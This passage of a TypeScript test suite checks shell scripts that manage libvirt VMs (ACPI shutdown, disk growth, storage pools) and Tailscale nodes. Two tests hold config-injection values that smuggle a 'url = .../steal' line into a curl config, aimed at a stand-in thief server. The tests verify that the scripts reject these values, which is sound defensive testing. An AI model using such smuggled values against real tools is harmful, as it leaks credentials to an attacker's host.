        assert.notEqual(r.code, 0, url);
        assert.match(r.stderr, /tailscale:baseUrl must be https:\/\/<host>\[:port\]/, url);
    }
});

test("tailnet.sh refuses a token from the API that is not one, before it reaches a header", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    const thief = await fakeTailscale({ devices: [] });
    const api = await fakeTailscale({ token: `tok"\nurl = "${thief.url}/steal` });
    try {
        const r = await runTailnet({
            PULUMI_COMMAND_STDOUT: RAIDER_RECORD,
            TS_BASE_URL: api.url,
            TS_OAUTH_CLIENT_ID: "cid",
            TS_OAUTH_CLIENT_SECRET: "tskey-client-secret",
        });
        assert.notEqual(r.code, 0);
        assert.match(r.stderr, /returned something that is not a token/);
        assert.deepEqual(api.calls, ["POST /api/v2/oauth/token "], "no call with it");
        assert.deepEqual(thief.calls, []);
    } finally {
        api.close();
        thief.close();
    }
});

/**
 * A fake host for power.sh, grow-disk.sh and pool.sh: the stand-in virsh with domain project-myapp
 * (state `domstate`, none when left out; its project disk vdb is project-myapp/project.qcow2) whose
 * guest shuts down `acpiPolls` domstate calls after an ACPI shutdown ("never": it ignores it).
 * `sleep` is a no-op, so a timeout costs no time.
 */
function fakeHost(setup: { domstate?: string; acpiPolls?: number | "never" } = {}) {
    const host = new FakeHost("project-myapp").noSleep();
    if (setup.domstate) {
        host.define("project-myapp", {
            state: setup.domstate,
            acpi: setup.acpiPolls ?? "never",
            blkDetails: " file  disk  vda  /pools/project-myapp/disk.qcow2\n file  disk  vdb  /pools/project-myapp/project.qcow2\n",
        });
    }
    return {
        dir: host.dir,
        run(script: string, fn: string, env: Record<string, string>) {
            host.clearCalls();
            return spawnSync("bash", ["-c", hostScript(script, fn)], {
                encoding: "utf8",
                env: { ...host.env(), LIBVIRT_URI: "qemu:///system", ...env },
                timeout: 30_000,
            });
        },
        /** The virsh calls of the last run (domstate polls left out unless asked). */
        calls: (withPolls = false): string[] => host.calls().filter((l) => withPolls || !l.startsWith("domstate")),
        domstate: () => host.stateOf() ?? "",
        /** Writes a volume of `bytes` into pool `pool`. */
        volume: (pool: string, name: string, bytes: number) => host.volume(pool, name, bytes),
        size: (pool: string, name: string) => host.size(pool, name)?.capacity ?? NaN,
        poolExists: (pool: string) => host.poolDefined(pool) || fs.existsSync(path.join(host.dir, "pools", pool)),
    };
}

test("power.sh stops a VM by ACPI shutdown and waits; it does not force it off while the guest shuts down", () => {
    const host = fakeHost({ domstate: "running", acpiPolls: 3 });
    const r = host.run("power.sh", "power_apply", { DOMAIN: "project-myapp", DESIRED: "stopped", SHUTDOWN_TIMEOUT: "180" });
    assert.equal(r.status, 0, r.stderr);
    assert.deepEqual(host.calls(), ["shutdown project-myapp --mode acpi"], "ACPI only: no destroy");
    assert.equal(host.domstate(), "shut off");
    assert.match(r.stderr, /shutting down project-myapp \(ACPI; forced off after 180s\)/);
    assert.match(r.stderr, /project-myapp shut down after \d+s/);
    assert.equal(r.stdout.trim(), "stopped");
});

test("power.sh forces a VM off only after the ACPI timeout, pressing the button again every 20 s", () => {
    const host = fakeHost({ domstate: "running", acpiPolls: "never" });
    const r = host.run("power.sh", "power_stop", { DOMAIN: "project-myapp", SHUTDOWN_TIMEOUT: "60" });
    assert.equal(r.status, 0, r.stderr);
    const calls = host.calls(true);
    assert.deepEqual(
        calls.filter((c) => !c.startsWith("domstate")),
        [
            "shutdown project-myapp --mode acpi",
            "shutdown project-myapp --mode acpi",
            "shutdown project-myapp --mode acpi",
            "destroy project-myapp",
        ],
        "ACPI at 0, 20 and 40 s; destroy last",
    );
    assert.equal(calls.filter((c) => c.startsWith("domstate")).length, 1 + 30, "polled every 2 s for the whole 60 s before forcing it off");
    assert.match(r.stderr, /did not shut down within 60s: forcing it off/);
    assert.equal(host.domstate(), "shut off");
});

test("power.sh leaves a VM already in the desired state alone, and starts a stopped one", () => {
    for (const [domstate, desired] of [
        ["shut off", "stopped"],
        ["running", "running"],
    ]) {
        const host = fakeHost({ domstate, acpiPolls: 0 });
        const r = host.run("power.sh", "power_apply", { DOMAIN: "project-myapp", DESIRED: desired });
        assert.equal(r.status, 0, r.stderr);
        assert.deepEqual(host.calls(), [], `${domstate} → ${desired}: nothing done`);
        assert.equal(host.domstate(), domstate);
    }
    const gone = fakeHost();
    const r = gone.run("power.sh", "power_stop", { DOMAIN: "project-myapp" });
    assert.equal(r.status, 0, r.stderr);
    assert.deepEqual(gone.calls(), [], "no domain: nothing to stop");

    const off = fakeHost({ domstate: "shut off" });
    const start = off.run("power.sh", "power_apply", { DOMAIN: "project-myapp", DESIRED: "running" });
    assert.equal(start.status, 0, start.stderr);
    assert.deepEqual(off.calls(), ["start project-myapp"]);
    assert.equal(off.domstate(), "running");
});

const G = 1024 ** 3;
const growEnv = (size: number) => ({
    POOL: "project-myapp",
    VOLUME: "project.qcow2",
    SIZE: String(size),
    DOMAIN: "project-myapp",
    TARGET: "vdb",
    CONFIG_KEY: "disk of project myapp (project-vms:projects)",
});

test("grow-disk.sh refuses to shrink a project disk, naming the project, and changes nothing", () => {
    for (const domstate of ["running", "shut off"]) {
        const host = fakeHost({ domstate });
        host.volume("project-myapp", "project.qcow2", 100 * G);
        const r = host.run("grow-disk.sh", "disk_grow", growEnv(50 * G));
        assert.notEqual(r.status, 0);
        assert.match(r.stderr, /refusing to shrink the project disk project\.qcow2 of project-myapp from 100G to 50G/);
        assert.match(r.stderr, /Set disk of project myapp \(project-vms:projects\) to 100G or more/);
        assert.deepEqual(
            host.calls().filter((c) => !c.startsWith("vol-info")),
            [],
            `${domstate}: no resize`,
        );
        assert.equal(host.size("project-myapp", "project.qcow2"), 100 * G);
        assert.equal(r.stdout, "");
    }
});

test("grow-disk.sh says so when the project disk is missing", () => {
    const host = fakeHost({ domstate: "running" });
    const r = host.run("grow-disk.sh", "disk_grow", growEnv(50 * G));
    assert.notEqual(r.status, 0);
    assert.match(r.stderr, /no volume project\.qcow2 in pool project-myapp/);
});

test("grow-disk.sh grows with blockresize while the VM runs and vol-resize while it is off; an equal size is left alone", () => {
    const live = fakeHost({ domstate: "running" });
    live.volume("project-myapp", "project.qcow2", 100 * G);
    const r = live.run("grow-disk.sh", "disk_grow", growEnv(200 * G));
    assert.equal(r.status, 0, r.stderr);
    assert.deepEqual(
        live.calls().filter((c) => !c.startsWith("vol-info")),
        [`blockresize project-myapp vdb --size ${200 * G}B`],
    );
    assert.equal(live.size("project-myapp", "project.qcow2"), 200 * G);
    assert.match(r.stderr, /grew the project disk of project-myapp from 100G to 200G \(live\)/);
    assert.equal(r.stdout.trim(), String(200 * G));

    const off = fakeHost({ domstate: "shut off" });
    off.volume("project-myapp", "project.qcow2", 100 * G);
    const o = off.run("grow-disk.sh", "disk_grow", growEnv(150 * G));
    assert.equal(o.status, 0, o.stderr);
    assert.deepEqual(
        off.calls().filter((c) => !c.startsWith("vol-info")),
        [`vol-resize --pool project-myapp project.qcow2 ${150 * G}B`],
    );
    assert.equal(off.size("project-myapp", "project.qcow2"), 150 * G);

    const same = off.run("grow-disk.sh", "disk_grow", growEnv(150 * G));
    assert.equal(same.status, 0, same.stderr);
    assert.deepEqual(
        off.calls().filter((c) => !c.startsWith("vol-info")),
        [],
    );
});

const poolEnv = (purge: boolean) => ({ POOL: "project-myapp", POOL_DIR: "/var/lib/project-vms/myapp", PURGE: String(purge) });

test("pool.sh makes a pool idempotently, and refuses one found at another folder", () => {
    const host = fakeHost();
    const first = host.run("pool.sh", "pool_ensure", poolEnv(false));
    assert.equal(first.status, 0, first.stderr);
    assert.deepEqual(
        host
            .calls()
            .map((c) => c.split(" ")[0])
            .filter((c) => c !== "pool-info" && c !== "pool-dumpxml"),
        ["pool-define-as", "pool-build", "pool-start", "pool-autostart", "pool-refresh"],
    );
    assert.equal(first.stdout.trim(), "project-myapp");
    const again = host.run("pool.sh", "pool_ensure", poolEnv(false));
    assert.equal(again.status, 0, again.stderr);
    assert.ok(!host.calls().some((c) => /^pool-(define|build|start)/.test(c)), "an existing running pool is taken up as it is");

    const elsewhere = host.run("pool.sh", "pool_ensure", { ...poolEnv(false), POOL_DIR: "/srv/other" });
    assert.notEqual(elsewhere.status, 0);
    assert.match(elsewhere.stderr, /pool project-myapp already exists at \/var\/lib\/project-vms\/myapp, not at \/srv\/other/);
});

test("pool.sh keeps a pool that was not purged, with its volumes; deletes a purged empty one, once", () => {
    const host = fakeHost();
    assert.equal(host.run("pool.sh", "pool_ensure", poolEnv(false)).status, 0);
    host.volume("project-myapp", "project.qcow2", 100 * G);

    const kept = host.run("pool.sh", "pool_remove", poolEnv(false));
    assert.equal(kept.status, 0, kept.stderr);
    assert.deepEqual(host.calls(), [], "not purged: virsh is not even asked");
    assert.ok(host.poolExists("project-myapp"));
    assert.equal(host.size("project-myapp", "project.qcow2"), 100 * G);
    assert.match(kept.stderr, /keeping pool project-myapp/);

    const full = host.run("pool.sh", "pool_remove", poolEnv(true));
    assert.notEqual(full.status, 0, "purged, but a volume is still in it");
    assert.match(full.stderr, /pool project-myapp still holds: project\.qcow2/);
    assert.ok(!host.calls().some((c) => /^pool-(destroy|delete|undefine)/.test(c)));
    assert.equal(host.size("project-myapp", "project.qcow2"), 100 * G);

    fs.rmSync(path.join(host.dir, "pools", "project-myapp", "project.qcow2"));
    const purged = host.run("pool.sh", "pool_remove", poolEnv(true));
    assert.equal(purged.status, 0, purged.stderr);
    assert.deepEqual(
        host
            .calls()
            .map((c) => c.split(" ")[0])
            .filter((c) => /^pool-(destroy|delete|undefine)$/.test(c)),
        ["pool-destroy", "pool-delete", "pool-undefine"],
    );
    assert.ok(!host.poolExists("project-myapp"));
    const twice = host.run("pool.sh", "pool_remove", poolEnv(true));
    assert.equal(twice.status, 0, twice.stderr);
    assert.deepEqual(host.calls(), ["pool-info project-myapp"], "already gone: nothing to do");
});

test("curl_config_line: what curl reads back from its config is exactly the value, for quotes, backslashes and the like", async (t) => {
    if (!requireTool("curl", "curl", (r) => t.skip(r))) return;
    const api = await fakeTailscale({ devices: [] });
    const lib = fs.readFileSync(path.join(HOST_SCRIPTS_DIR, "lib.sh"), "utf8");
    const values = [
        '"',
        "\\",
        '\\"',
        'a\\"b',
        "x\\",
        '"; url = "http://127.0.0.1:1/steal',
        "\\n\\t\\r",
        "#not a comment",
        "= = =",
        "näive ☃",
        "'single'",
    ];
    try {
        for (const value of values) {
            // Asynchronously: the stand-in API answers from this process.
            const r = await new Promise<{ code: number; stderr: string }>((resolve) =>
                execFile(
                    "bash",
                    [
                        "-c",
                        `${lib}\n{ curl_config_line url "$URL/probe"; curl_config_line header "Authorization: $VALUE"; } | curl -sS -K - -o /dev/null`,
                    ],
                    { env: { PATH: process.env.PATH, LIBVIRT_URI: "test:///default", URL: api.url, VALUE: value }, timeout: 20_000 },
                    (err, _out, stderr) => resolve({ code: err ? 1 : 0, stderr }),
                ),
            );
            assert.equal(r.code, 0, r.stderr);
            // Node reads header bytes as latin1: compare bytes.
            assert.equal(api.calls.pop(), `GET /probe ${Buffer.from(value).toString("latin1")}`, JSON.stringify(value));
        }
        for (const value of ["a\nb", "a\rb", "a\tb", "a\u0000b".replace("\u0000", "\u0001"), "a\u007fb"]) {
            const r = spawnSync("bash", ["-c", `${lib}\ncurl_config_line header "$VALUE"`], {
                encoding: "utf8",
                env: { PATH: process.env.PATH, LIBVIRT_URI: "test:///default", VALUE: value },
            });
            assert.notEqual(r.status, 0, JSON.stringify(value));
            assert.equal(r.stdout, "");
            assert.match(r.stderr, /holds a newline or another control character/);
        }
    } finally {
        api.close();
    }
});

test("tailnet.sh: another host's same-name machine that joined while this VM's key was valid is not recorded, nor deleted later", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    // Storage's myapp rejoined within raider's key's life; raider's root guest reports its ID and key.
    const devices = sharedTailnet().map((d) => (d.nodeId === "nStorageMyapp1CNTRL" ? { ...d, created: "2025-03-02T15:10:00Z" } : d));
    const api = await fakeTailscale({ devices });
    try {
        const creds = { TS_BASE_URL: api.url, TS_API_KEY: "tskey-api-secret", ...RAIDER_KEY };
        const rec = await runTailnet({ ...creds, FAKE_TS_STATUS: status("nStorageMyapp1CNTRL", "nodekey:storage") }, "tailnet_node_record");
        assert.equal(rec.code, 0, rec.stderr);
        assert.match(
            rec.stderr,
            /not recording tailnet node nStorageMyapp1CNTRL .*nRaiderMyapp1CNTRL of the same name and tags joined the tailnet too while this VM's auth key was valid/,
        );
        await runTailnet({ ...creds, PULUMI_COMMAND_STDOUT: rec.stdout }, "tailnet_node_delete");
        assert.ok(
            api.devices.some((d) => d.nodeId === "nStorageMyapp1CNTRL"),
            "storage's machine stays",
        );
        assert.ok(!api.calls.some((c) => c.startsWith("DELETE")));
    } finally {
        api.close();
    }
});
